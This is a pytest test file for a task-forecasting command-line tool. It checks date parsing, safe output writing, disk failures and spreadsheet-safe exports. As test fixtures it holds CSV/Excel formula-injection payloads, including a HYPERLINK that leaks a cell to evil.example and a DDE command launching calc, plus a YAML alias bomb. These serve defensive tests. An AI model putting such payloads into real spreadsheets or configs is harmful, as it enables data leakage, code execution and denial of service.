"""Exports as real offices make them, hostile values, unlucky disks (issue #9): for every case, the exit status, a
message naming the file, row, column, task or path, no traceback, and nothing changed outside the kit's output."""

from __future__ import annotations

import contextlib
import csv
import errno
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml

from forecast import sample
from forecast.cli import main
from forecast.data import schema
from forecast.report.index import INDEX_NAME, RUN_MARKER
from tests.disk_helpers import full_disk, read_only_folder, tree
from tests.report_helpers import write_notebook

HEADER = "task_id,agency,deadline,status,assigned_date\n"
HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?"&A2,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\tleading tab",
    "\rcarriage return",
]


@pytest.fixture(scope="module")
def base(tmp_path_factory) -> Path:
    """A workspace: 14 weekly CSV exports of a 200-task portfolio (Sep - 4 Dec 2025) and a params file (reports one
    page at a time: one kernel)."""
    root = tmp_path_factory.mktemp("base")
    frame = sample.generate(tasks=200, seed=3, start="2025-09-04", until="2025-12-04")
    last = frame.loc[frame["snapshot_date"] == frame["snapshot_date"].max()]
    due = last["status"].isin(schema.OPEN) & (last["deadline"] <= pd.Timestamp("2025-12-31"))
    open_ids = last.loc[due, "task_id"].unique()  # in the open set, so in the early-warning list
    hostile = dict(zip(open_ids[: len(HOSTILE_TITLES)], HOSTILE_TITLES, strict=True))
    frame["title"] = [hostile.get(t, title) for t, title in zip(frame["task_id"], frame["title"], strict=True)]
    frame["task_id"] = frame["task_id"].astype(str).replace({open_ids[-1]: "@BAD-ID"})
    exports = root / "exports"
    exports.mkdir()
    for when, snap in frame.groupby("snapshot_date"):
        snap.drop(columns=["snapshot_date"]).to_csv(
            exports / f"snapshot_{when:%Y-%m-%d}.csv", index=False, date_format="%Y-%m-%d", lineterminator="\r\n"
        )  # as Excel
    (root / "params.yaml").write_text(
        yaml.safe_dump({"snapshots": "exports", "sims": 200, "seed": 1, "jobs": 1}), encoding="utf-8"
    )
    return root


@pytest.fixture
def world(base, tmp_path) -> Path:
    shutil.copytree(base, tmp_path / "w")
    return tmp_path / "w"


def run(capsys, *args: str) -> tuple[int, str, str]:
    """The CLI in-process: (exit status, stdout, stderr); an argparse error is exit status 2 too."""
    try:
        code = main([str(a) for a in args])
    except SystemExit as exc:
        code = exc.code
    out, err = capsys.readouterr()
    assert "Traceback" not in err and "Traceback" not in out
    return code, out, err


def refused(capsys, root: Path, *args: str, says: tuple[str, ...], kits: tuple[str, ...] = ()) -> str:
    """Run a command that must be refused: exit 2, one message saying ``says``, and nothing under ``root`` changed
    but the kit's own files ``kits`` (paths relative to ``root``)."""
    before = tree(root)
    code, _, err = run(capsys, *args)
    assert code == 2, err
    for words in says:
        assert words in err, err
    after = tree(root)
    assert {k: v for k, v in after.items() if k not in kits} == {k: v for k, v in before.items() if k not in kits}
    return err


def validate_refuses(capsys, root: Path, exports: Path, says: tuple[str, ...]) -> str:
    """``forecast validate --snapshots EXPORTS`` refused as :func:`refused` checks it."""
    return refused(capsys, root, "validate", "--snapshots", str(exports), says=says)


def report_refused(capsys, world: Path, out: Path, notebooks: Path, says: tuple[str, ...], kits=()) -> str:
    """``forecast report`` of ``world``'s params into ``out`` refused as :func:`refused` checks it."""
    args = ("report", "--params", str(world / "params.yaml"), "--out", str(out), "--notebooks", str(notebooks))
    return refused(capsys, world, *args, says=says, kits=kits)


# --- dates: one day-first parser for every input ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("as_of", "used"),
    [
        ("04/12/2025", "2025-12-04"),
        ("2025-12-04", "2025-12-04"),
        ("13/11/2025", "2025-11-13"),
        ("2025-11-01", "2025-10-30"),
    ],
)
def test_command_line_dates_are_day_first_and_a_moved_as_of_is_said(capsys, world, as_of, used):
    code, out, err = run(
        capsys, "predict", "--params", world / "params.yaml", "--as-of", as_of, "--deadline", "31/12/2025", "--json"
    )
    assert code == 0, err
    result = json.loads(out)
    assert (result["as_of"], result["deadline"]) == (used, "2025-12-31")
    moved = "is not a snapshot date; using the last snapshot before it" in err
    assert moved == (used != str(schema.parse_date(as_of)))


@pytest.mark.parametrize("value", ["12/31/2025", "Dec 4", "2025-12", "04/12/25", "31/12/9999", "29/02/2025"])
def test_ambiguous_partial_or_impossible_dates_are_refused_with_the_accepted_forms(capsys, world, value):
    err = refused(
        capsys,
        world,
        "predict",
        "--params",
        world / "params.yaml",
        "--as-of",
        value,
        says=("argument --as-of", repr(value)),
    )
    assert "YYYY-MM-DD or dd/mm/yyyy" in err or "out of range" in err


def test_params_and_scenario_files_read_dates_day_first(capsys, world):
    (world / "day_first.yaml").write_text(
        "snapshots: exports\nas_of: 27/11/2025\ndeadline: 31/12/2025\n", encoding="utf-8"
    )
    code, out, _ = run(capsys, "params", world / "day_first.yaml")
    assert code == 0 and yaml.safe_load(out)["as_of"] == "2025-11-27"
    (world / "month_first.yaml").write_text("as_of: 11/27/2025\n", encoding="utf-8")
    refused(
        capsys,
        world,
        "params",
        world / "month_first.yaml",
        says=("month_first.yaml: 'as_of': '11/27/2025'", "YYYY-MM-DD or dd/mm/yyyy"),
    )


def test_dates_past_2262_are_an_error_naming_the_cell_except_the_no_deadline_placeholder(capsys, tmp_path):
    exports = tmp_path / "exports"
    exports.mkdir()
    (exports / "s_2025-11-06.csv").write_text(
        HEADER + "T1,Finance,31/12/9999,Regular,\nT2,Finance,31/12/2300,In progress,\n"
        "T3,Health,31/12/9999,Overdue,\nT4,Health,2025-12-31,In progress,\n",
        encoding="utf-8",
    )
    err = validate_refuses(
        capsys,
        tmp_path,
        exports,
        says=(
            "s_2025-11-06.csv, row 3, column 'deadline', task T2: '31/12/2300' is out of range",
            "row 4, column 'deadline', task T3: no deadline (empty, or the 31/12/9999 placeholder)",
        ),
    )
    assert "T1" not in err  # a regular task may use the placeholder


# --- task ids: normalised once, whatever the file type ---------------------------------------------------------------


def test_numeric_task_ids_are_the_same_task_in_parquet_xlsx_and_csv(capsys, tmp_path):
    exports = tmp_path / "exports"
    exports.mkdir()
    rows = {"agency": ["Finance", "Health"], "deadline": ["2025-12-31", "2025-12-31"], "status": ["In progress"] * 2}
    pd.DataFrame({"task_id": [1.0, 2.0], **rows}).to_parquet(exports / "s_2025-11-06.parquet")
    pd.DataFrame({"task_id": [1, 2], **rows}).to_excel(exports / "s_2025-11-13.xlsx", index=False)
    (exports / "s_2025-11-20.csv").write_text(
        "task_id,agency,deadline,status\n 1 ,Finance,2025-12-31,In progress\n2.0,Health,2025-12-31,In progress\n",
        encoding="utf-8",
    )
    code, out, err = run(capsys, "validate", "--snapshots", exports)
    assert code == 0, err
    assert "2 tasks in all" in out and "missing from later snapshots" not in out


# --- outputs never destroy what the kit did not write ----------------------------------------------------------------


def test_tasks_out_never_overwrites_without_force_and_never_writes_into_the_snapshot_folder(capsys, world):
    mine = world / "mine.csv"
    mine.write_text("my own file\n", encoding="utf-8")
    params = world / "params.yaml"
    refused(capsys, world, "predict", "--params", params, "--tasks-out", mine, says=(str(mine), "--force"))
    newest = sorted((world / "exports").glob("*.csv"))[-1]
    for extra in ((), ("--force",)):
        refused(
            capsys,
            world,
            "predict",
            "--params",
            params,
            "--tasks-out",
            newest,
            *extra,
            says=(str(newest), "inside the snapshot folder"),
        )
        refused(
            capsys,
            world,
            "predict",
            "--params",
            params,
            "--tasks-out",
            world / "exports" / "new.csv",
            *extra,
            says=("inside the snapshot folder",),
        )
    refused(
        capsys,
        world,
        "predict",
        "--params",
        params,
        "--tasks-out",
        world / "exports",
        says=(str(world / "exports"), "is a folder"),
    )
    refused(capsys, world, "backtest", "--params", params, "--out", mine, says=(str(mine), "already exists"))
    code, _, err = run(capsys, "predict", "--params", params, "--tasks-out", mine, "--force")
    assert code == 0 and f"rows to {mine}" in err and mine.read_text(encoding="utf-8-sig").startswith("task_id,")


def test_sample_writes_only_into_an_empty_or_kit_made_folder(capsys, tmp_path):
    folder = tmp_path / "s"
    assert run(capsys, "sample", "--out", folder, "--tasks", 100, "--start", "2025-11-27")[0] == 0
    (folder / "my_notes.txt").write_text("notes", encoding="utf-8")
    (folder / "real_export_2025-12-11.csv").write_text(HEADER, encoding="utf-8")
    refused(
        capsys,
        tmp_path,
        "sample",
        "--out",
        folder,
        "--tasks",
        100,
        "--start",
        "2025-11-20",
        says=(str(folder), "my_notes.txt", "real_export_2025-12-11.csv"),
    )
    afile = tmp_path / "afile"
    afile.write_text("x", encoding="utf-8")
    refused(capsys, tmp_path, "sample", "--out", afile, "--tasks", 100, says=(str(afile), "is a file"))


@pytest.fixture(scope="module")
def tiny_notebooks(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("tiny")
    write_notebook(folder / "01_tiny.ipynb", 'print("tiny")')
    return folder


@pytest.fixture(scope="module")
def first_report(base, tmp_path_factory, tiny_notebooks):
    """A copy of the workspace whose output folder ``docs`` already holds the user's files (hidden drafts, a
    ``run.json`` of their own, notes, a run folder with a broken record), after one ``forecast report`` into it:
    (workspace, exit status, stderr, every file and folder before the run). Tests that change it work on a copy."""
    world = tmp_path_factory.mktemp("first") / "w"
    shutil.copytree(base, world)
    out = world / "docs"
    out.mkdir()
    users = {
        ".tmp-draft-notes.txt": "draft",
        ".tmp-build/x.md": "build",
        "docs/run.json": '{"started": "2099"}',
        "notes.md": "mine",
    }
    for name, text in users.items():
        (out / name).parent.mkdir(parents=True, exist_ok=True)
        (out / name).write_text(text, encoding="utf-8")
    broken = out / "20251201T000000Z_old"
    broken.mkdir()
    (broken / RUN_MARKER).write_text("", encoding="utf-8")
    (broken / "run.json").write_text("{not json", encoding="utf-8")
    before = tree(world)
    err = io.StringIO()
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(err):
        code = main(
            ["report", "--params", str(world / "params.yaml"), "--out", str(out), "--notebooks", str(tiny_notebooks)]
        )
    return world, code, err.getvalue(), before


@pytest.mark.report
def test_report_touches_only_what_it_made(capsys, first_report, tiny_notebooks, tmp_path):
    world, code, err, before = first_report
    out = world / "docs"
    assert code == 0, err
    assert "Traceback" not in err
    assert f"skipped {out / '20251201T000000Z_old' / 'run.json'}: unreadable run record" in err
    after = tree(world)
    made = {k for k in after if k not in before}
    [run_folder] = {k.split("/")[1] for k in made if k.count("/") == 1 and k.startswith("docs/2")}
    assert made == {
        f"docs/{INDEX_NAME}",
        "docs/.lock",
        f"docs/{run_folder}",
        *(
            f"docs/{run_folder}/{f}"
            for f in (
                RUN_MARKER,
                "run.json",
                "01_tiny.ipynb",
                "01_tiny.html",
                "early_warning.xlsx",
                "early_warning.csv",
                "by_agency.csv",
                "scenarios.csv",
            )
        ),
    }  # and the run's downloads
    assert all(after[k] == v for k, v in before.items())  # nothing there before changed
    index = (out / INDEX_NAME).read_text(encoding="utf-8")
    assert run_folder in index and "2099" not in index and "20251201T000000Z_old" not in index

    world = tmp_path / "w"
    shutil.copytree(first_report[0], world)  # the shared workspace stays as the run left it
    out = world / "docs"
    (out / INDEX_NAME).write_text("<html>my own page</html>", encoding="utf-8")  # an index the kit did not write
    report_refused(
        capsys,
        world,
        out,
        tiny_notebooks,
        says=(str(out / INDEX_NAME), "was not written by forecast report"),
    )


# --- spreadsheet-safe outputs ----------------------------------------------------------------------------------------


def test_early_warning_files_neutralise_formulas(capsys, world):
    params = world / "params.yaml"
    for name in ("ew.xlsx", "ew.csv"):
        code, _, err = run(capsys, "predict", "--params", params, "--tasks-out", world / name)
        assert code == 0, err
    book = openpyxl.load_workbook(world / "ew.xlsx")
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    survive = [t for t in HOSTILE_TITLES if not t[0].isspace()]  # loading trims leading tabs and line breaks
    assert {f"'{t}" for t in survive} <= set(texts) and "'@BAD-ID" in texts
    raw = (world / "ew.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads the Vietnamese text as UTF-8
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines(keepends=True)))
    assert not [v for r in rows for v in r if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(v == f"'{HOSTILE_TITLES[1]}" for r in rows for v in r)


# --- bounded inputs; values in messages cut short --------------------------------------------------------------------


def _bomb(levels: int = 9) -> str:
    """A "billion laughs" value: 9 nested levels of 9 aliases each, 9**9 strings once expanded."""
    value = '&a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'
    for i in range(1, levels):
        value = f"&a{i} [{value}, {', '.join([f'*a{i - 1}'] * 8)}]"
    return value


@pytest.mark.parametrize(
    ("where", "text"),
    [
        ("sims", "sims: {bomb}\n"),
        ("scenario", "scenario: {bomb}\n"),
        ("status_labels", "status_labels: {{x: {bomb}}}\n"),
        ("multiplier", "name: bomb\nlevers:\n  - lever: rate_multiplier\n    agency: all\n    multiplier: {bomb}\n"),
    ],
)
def test_a_yaml_alias_bomb_is_reported_without_being_expanded(tmp_path, where, text):
    path = tmp_path / "bomb.yaml"
    path.write_text(text.format(bomb=_bomb()), encoding="utf-8")
    command = ["scenario", "--check", str(path)] if where == "multiplier" else ["params", str(path)]
    done = subprocess.run(
        [sys.executable, "-m", "forecast.cli", *command], capture_output=True, text=True, timeout=120, check=False
    )  # 9**9 values if expanded: minutes and gigabytes
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert str(path) in done.stderr and where in done.stderr
    assert len(done.stderr) < 400, done.stderr  # the value is cut to about 80 characters


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (("predict", "--sims", "1000000000"), "argument --sims: must be a whole number from 1 to 1,000,000"),
        (("predict", "--sims", "0"), "argument --sims"),
        (("goal", "--target-slips", "10", "--cap", "inf"), "argument --cap: must be a number greater than 1"),
        (("goal", "--target-slips", "10", "--cap", "nan"), "argument --cap"),
        (("goal", "--target-slips", "10", "--probability", "nan"), "argument --probability"),
        (("backtest", "--horizon", "99999"), "argument --horizon"),
        (("sample", "--out", "x", "--tasks", "100000000"), "argument --tasks"),
    ],
)
def test_absurd_sizes_on_the_command_line_are_refused(capsys, world, args, says):
    refused(capsys, world, *args, says=(says,))


@pytest.mark.parametrize(
    ("text", "key", "says"),
    [
        ("sims: 1000000000\n", "'sims'", "from 1 to 1,000,000"),
        ("timeout_minutes: 50000\n", "'timeout_minutes'", "at most 1440"),
        ("timeout_minutes: .inf\n", "'timeout_minutes'", "inf must be a number"),
        ("timeout_minutes: .nan\n", "'timeout_minutes'", "nan must be a number"),
        ("simz: 100\n", "'simz'", "did you mean 'sims'"),
        (
            "name: x\nlevers:\n  - lever: rate_multiplier\n    multiplier: 2\n    agency: all\n",
            "'params'",
            "this is a scenario file",
        ),
    ],
)
def test_bad_params_files_stop_report_schedule_and_params_before_anything_is_written(capsys, world, text, key, says):
    path = world / "bad.yaml"
    path.write_text(text, encoding="utf-8")
    for command in (
        ("params", path),
        ("report", "--params", path, "--out", world / "r"),
        ("schedule", "--params", path, "--cron", "0 6 * * MON", "--out", world / "r"),
    ):
        refused(capsys, world, *command, says=(str(path), key, says))


@pytest.mark.parametrize(
    ("lever", "says"),
    [
        (
            "  - lever: new_tasks\n    count: 100000000\n    agency: A\n    deadline: 2025-12-31\n",
            "'levers[1].count': 100000000 must be a whole number from 1 to 100,000",
        ),
        ("  - lever: deadline_extension\n    agency: all\n    by_days: 99999\n", "'levers[1].by_days'"),
        ("  - lever: rate_multiplier\n    agency: all\n    multiplier: .nan\n", "'levers[1].multiplier': nan"),
        ("  - lever: rate_multiplier\n    agency: all\n    multiplier: .inf\n", "'levers[1].multiplier': inf"),
        ("  - lever: rate_multiplier\n    agency: all\n    multiplyer: 2\n", "did you mean 'multiplier'"),
    ],
)
def test_bad_scenario_files_are_caught_by_check_alone(capsys, world, lever, says):
    path = world / "s.yaml"
    path.write_text(f"name: x\nlevers:\n{lever}", encoding="utf-8")
    refused(capsys, world, "scenario", "--check", path, says=(str(path), says))
    (world / "p.yaml").write_text("sims: 10\n", encoding="utf-8")
    refused(capsys, world, "scenario", "--check", world / "p.yaml", says=("this is a params file",))


def test_published_figures_that_are_not_a_figures_file(capsys, world):
    refused(capsys, world, "predict", "--published", "/etc/passwd", says=("/etc/passwd", "not a published-figures"))
    refused(capsys, world, "predict", "--published", world, says=(str(world), "is a folder"))


# --- disks: read-only and full ---------------------------------------------------------------------------------------


def test_read_only_output_folders_are_one_line_naming_the_path(capsys, world, monkeypatch, tiny_notebooks):
    with read_only_folder(world / "ro", monkeypatch, {"keep.txt": "kept"}) as ro:
        params = world / "params.yaml"
        cases = [
            ("predict", "--params", params, "--tasks-out", ro / "ew.csv"),
            ("report", "--params", params, "--out", ro, "--notebooks", tiny_notebooks),
            ("schedule", "--params", params, "--cron", "0 6 * * MON", "--out", ro, "--max-runs", "1"),
            ("sample", "--out", ro / "new", "--tasks", "100", "--start", "2025-11-27"),
        ]
        for args in cases:
            err = refused(capsys, world, *args, says=(str(ro),))
            assert len(err.strip().splitlines()) == 1, err
        assert (ro / "keep.txt").read_text(encoding="utf-8") == "kept"


def test_a_full_disk_leaves_earlier_files_and_runs_as_they_were(capsys, world, monkeypatch):
    with full_disk(world / "full", monkeypatch, {"ew.csv": "an earlier list\n"}) as full:
        err = refused(
            capsys,
            world,
            "predict",
            "--params",
            world / "params.yaml",
            "--tasks-out",
            full / "ew.csv",
            "--force",
            says=(str(full / "ew.csv"), "No space left on device"),
        )
        assert len(err.strip().splitlines()) == 1
        assert (full / "ew.csv").read_text(encoding="utf-8") == "an earlier list\n"
        assert not [p for p in full.iterdir() if p.name.startswith(".tmp-")]


@pytest.mark.report
def test_an_index_that_cannot_be_written_publishes_no_run(capsys, first_report, monkeypatch, tiny_notebooks, tmp_path):
    """After a good run (:func:`first_report`'s), the next run cannot write the index: nothing is published."""
    import forecast.report.run as report_run

    world = tmp_path / "w"
    shutil.copytree(first_report[0], world)
    out = world / "docs"
    shutil.rmtree(out / "20251201T000000Z_old")  # the user's broken run record: its warning would be a second line
    assert len(list(out.glob("2*/run.json"))) == 1  # the good run is there
    real = report_run.replace_file

    def index_disk_full(path, write):
        def fail_after_publishing(tmp):
            write(tmp)  # the run folder is renamed into place here: it must be taken back
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))

        return real(path, fail_after_publishing)

    monkeypatch.setattr(report_run, "replace_file", index_disk_full)
    err = report_refused(
        capsys,
        world,
        out,
        tiny_notebooks,
        says=(str(out / INDEX_NAME), "No space left on device", "was not published"),
        kits=("docs/.lock",),
    )
    assert len(err.strip().splitlines()) == 1


# --- exports as offices make them ------------------------------------------------------------------------------------


def test_a_semicolon_csv_from_excel_loads(capsys, tmp_path):
    exports = tmp_path / "exports"
    exports.mkdir()
    (exports / "s_2025-11-06.csv").write_bytes(
        "Mã nhiệm vụ;Cơ quan chủ trì;Thời hạn;Tình trạng;Tên nhiệm vụ\nT1;Bộ Tài chính;31/12/2025;Đang thực hiện;"
        "Xây dựng; sửa đổi\nT2;Bộ Y tế;15/12/2025;Quá hạn;Khác\n".replace(
            "Xây dựng; sửa đổi", '"Xây dựng; sửa đổi"'
        ).encode("utf-8-sig")
    )
    code, out, err = run(capsys, "validate", "--snapshots", exports)
    assert code == 0, err
    assert "2 tasks in all" in out


def _xlsx(path: Path, sheets: dict[str, list[list]]) -> Path:
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        ws = book.create_sheet(name)
        for row in rows:
            ws.append(row)
    book.save(path)
    return path


TABLE = [
    ["task_id", "agency", "deadline", "status"],
    ["T1", "Finance", "2025-12-31", "In progress"],
    ["T2", "Health", "2025-12-15", "Overdue"],
]


def test_xlsx_with_the_table_on_another_sheet_below_a_title_block(capsys, tmp_path):
    exports = tmp_path / "exports"
    exports.mkdir()
    _xlsx(
        exports / "s_2025-11-06.xlsx",
        {"Cover": [["Báo cáo tiến độ"], ["Nghị quyết 57"]], "Data": [["Báo cáo"], [], *TABLE]},
    )
    code, out, err = run(capsys, "validate", "--snapshots", exports)
    assert code == 0, err and "2 tasks in all" in out
    (exports / "s_2025-11-13.xlsx").unlink(missing_ok=True)
    broken = [[*TABLE[0][:2], "due", TABLE[0][3]], *TABLE[1:]]  # no recognisable deadline header
    _xlsx(exports / "s_2025-11-13.xlsx", {"Cover": [["title"]], "Data": [[], [], *broken]})
    validate_refuses(
        capsys,
        tmp_path,
        exports,
        says=("s_2025-11-13.xlsx, sheet 'Data' (header in row 3), row 3, column 'deadline': required column",),
    )
    _xlsx(exports / "s_2025-11-13.xlsx", {"Cover": [["nothing here"]], "Notes": [["a", "b"]]})
    validate_refuses(
        capsys,
        tmp_path,
        exports,
        says=("s_2025-11-13.xlsx: no sheet has the required columns", "'Cover', 'Notes'"),
    )


def test_a_formula_without_a_saved_value_is_reported_as_such(capsys, tmp_path):
    exports = tmp_path / "exports"
    exports.mkdir()
    rows = [*TABLE[:2], ["T2", "Health", "=DATE(2025,12,15)", "Overdue"]]  # openpyxl saves no cached value
    _xlsx(exports / "s_2025-11-06.xlsx", {"Sheet1": rows})
    err = validate_refuses(
        capsys,
        tmp_path,
        exports,
        says=("row 3, column 'deadline', task T2: a formula with no saved value",),
    )
    assert "no deadline" not in err  # one error per cell


def test_duplicate_headers_one_error_per_cell_and_task_ids_in_row_messages(capsys, tmp_path):
    exports = tmp_path / "exports"
    exports.mkdir()
    (exports / "s_2025-11-06.csv").write_text(
        "task_id,agency,deadline,status,title,status\nT1,Finance,2025-12-31,In progress,A title,x\n", encoding="utf-8"
    )
    err = validate_refuses(
        capsys,
        tmp_path,
        exports,
        says=("row 1, column 'status': column 'status' appears twice (columns 4 and 6)",),
    )
    assert "A title" not in err
    (exports / "s_2025-11-06.csv").write_text(
        HEADER + "T1,Finance,29/02/2025,In progress,\nT2,Finance,inf,Overdue,\nT3,Health,2025-03-01,In progress,"
        "2025-04-16\n",
        encoding="utf-8",
    )
    err = validate_refuses(
        capsys,
        tmp_path,
        exports,
        says=(
            "rows 2, 3, column 'deadline', tasks T1, T2: '29/02/2025' is not a date",
            "row 4, column 'deadline', task T3: deadline before the assigned date",
        ),
    )
    assert "no deadline" not in err


def test_unknown_status_labels_are_listed_briefly(capsys, tmp_path):
    exports = tmp_path / "exports"
    exports.mkdir()
    rows = "".join(f"T{i},Finance,2025-12-31,A long made-up title number {i} {'x' * 60}\n" for i in range(300))
    (exports / "s_2025-11-06.csv").write_text("task_id,agency,deadline,status\n" + rows, encoding="utf-8")
    err = refused(capsys, tmp_path, "validate", "--snapshots", exports, says=("and 290 more",))
    assert len(err) < 1500


# --- sanity warnings -------------------------------------------------------------------------------------------------


def test_a_year_typo_warns_in_validate_and_is_a_clear_error_in_predict(capsys, world):
    exports = world / "exports"
    last = sorted(exports.glob("*.csv"))[-1]
    last.rename(exports / "snapshot_2026-12-04.csv")
    code, out, _ = run(capsys, "validate", "--snapshots", exports)
    assert code == 0 and "snapshot_2026-12-04.csv, column 'snapshot_date': snapshot 2026-12-04 comes 372 days" in out
    refused(
        capsys,
        world,
        "predict",
        "--params",
        world / "params.yaml",
        says=("snapshot 2026-12-04 comes 372 days after the one before (2025-11-27)", "--as-of"),
    )


def test_a_jump_in_tasks_and_a_file_name_date_that_disagrees_warn(capsys, tmp_path):
    exports = tmp_path / "exports"
    exports.mkdir()
    one = "T1,Finance,2025-12-31,In progress,\n"
    (exports / "s_2025-11-06.csv").write_text(HEADER + one, encoding="utf-8")
    many = "".join(f"T{i},Finance,2025-12-31,In progress,\n" for i in range(1, 5))
    (exports / "s_2025-11-13.csv").write_text(
        "snapshot_date," + HEADER + "".join(f"2025-11-14,{line}" for line in many.splitlines(keepends=True)),
        encoding="utf-8",
    )
    code, out, _ = run(capsys, "validate", "--snapshots", exports)
    assert code == 0
    assert "s_2025-11-13.csv: 4 tasks against 1 in the snapshot before" in out
    assert "the file name says 2025-11-13 but the snapshot_date column says 2025-11-14" in out
